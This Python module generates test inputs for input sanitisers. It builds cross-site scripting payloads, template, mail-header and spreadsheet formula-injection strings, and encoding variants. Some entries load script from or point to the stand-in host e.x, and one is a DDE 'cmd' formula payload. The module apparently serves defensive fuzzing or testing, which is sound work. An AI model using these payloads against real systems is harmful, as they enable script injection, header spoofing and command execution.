"""A thousand texts that would be markup or script, and a thousand that would be formulas."""

from collections.abc import Callable
from itertools import product
from urllib.parse import quote

VECTORS = (
    "<script>XSS()</script>",
    "<ScRiPt src=//e.x>",
    "<img src=x onerror=XSS()>",
    "<svg/onload=XSS()>",
    "<svg><script>XSS()</script>",
    "<math><mi xlink:href=javascript:XSS()>",
    "<iframe src=javascript:XSS()>",
    "<style>@import'//e.x'</style>",
    "<base href=//e.x>",
    "<form action=//e.x>",
    "<meta http-equiv=refresh content=0;//e.x>",
    "<a href=javascript:XSS()>x</a>",
    "<x hx-get=/ hx-trigger=load>",
    "<x hx-on:load=XSS()>",
    "<details open ontoggle=XSS()>",
    "<body onload=XSS()>",
    "<b id=x>",
)
OUT = (
    *("", '"', "'", "`", '">', "'>", "`>", "-->", "--!>", "]]>", "*/", "}", "</p>"),
    *("</textarea>", "</title>", "</style>", "</script>", "</svg>", "</math>", "</select>"),
    *("</noscript>", "</template>", "</option>"),
)
# In an attribute, an address, a template, a header: no element is needed.
ALONE = (
    *("{quote} onfocus=XSS() autofocus x={quote}", "{quote} style=color:red {quote}"),
    *("{quote};XSS();{quote}", "{quote}-XSS()-{quote}", "${{XSS()}}{quote}", "{quote}hx-get=/ "),
    *("javascript:XSS(){quote}", "java\tscript:XSS(){quote}", "data:text/html,x{quote}"),
    *(
        "{{{{ 7*7 }}}}{quote}",
        "{{% now 'Y' %}}{quote}",
        "&#{quote}",
        "&lt;b&gt;{quote}",
        "\\{quote}",
    ),
    *(
        "\u2028{quote}<b>",
        "\x0b{quote}<b>",
        "\ufeff{quote}<b>",
        "\uff1cb\uff1e{quote}",
        "%0d%0a{quote}",
    ),
)
ENCODED: tuple[Callable[[str], str], ...] = (
    lambda text: text,
    lambda text: text.upper(),
    lambda text: text.replace("<", "<<"),
    lambda text: text.replace(" ", "/"),
    lambda text: text.replace("<", "<\x0b") if " " in text else text + "<!--",
    lambda text: quote(text, safe=""),
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60"),
)
FIRST, LATER = ENCODED[:3], ENCODED[3:]
# A line that is broken would begin a header of a mail.
HEADERS = [
    f"A{end}{header}"
    for end, header in product(
        ("\r\n", "\n", "\r", "\x0b", "\x0c", "\x85", "\u2028", "\r\n ", "%0d%0a"),
        ("Bcc: a@e.x", "To: a@e.x", "Subject: x", "Content-Type: text/html", "\r\n<b>"),
    )
]


def _markup() -> list[str]:
    found = [alone.format(quote=one) for alone, one in product(ALONE, ("", '"', "'", "`", ">"))]
    for encode in FIRST:
        found += [encode(out + vector) for out, vector in product(OUT, VECTORS)]
    for encode in LATER:
        found += [encode(vector) for vector in VECTORS]
    return list(dict.fromkeys(found))


def _formulas() -> list[str]:
    signs = ("=", "+", "-", "@", "\uff1d", "\uff0b", "\uff0d", "\uff20")
    calls = ("1+1", "SUM(A1)", "cmd|'/C calc'!A0", 'HYPERLINK("//e.x","x")', "IMPORTXML(A1,B1)")
    hidden = ("", " ", "\t", "\r", "\n", "\ufeff", "\u200b", "\u00a0", "  \t", '"')
    begun = [before + sign + call for before, sign, call in product(hidden, signs, calls)]
    parted = (
        "a,",
        "a;",
        "a\t",
        "a\n",
        "a\r\n",
        'a"',
        'a",',
        'a";',
        'a"\n',
        'a"\t"',
        "a;;",
        'a;"',
        "a; ",
        "a;b;",
        ";",
    )
    return begun + [out + sign + call for out, sign, call in product(parted, signs, calls)]


MARKUP = _markup()
FORMULAS = _formulas()
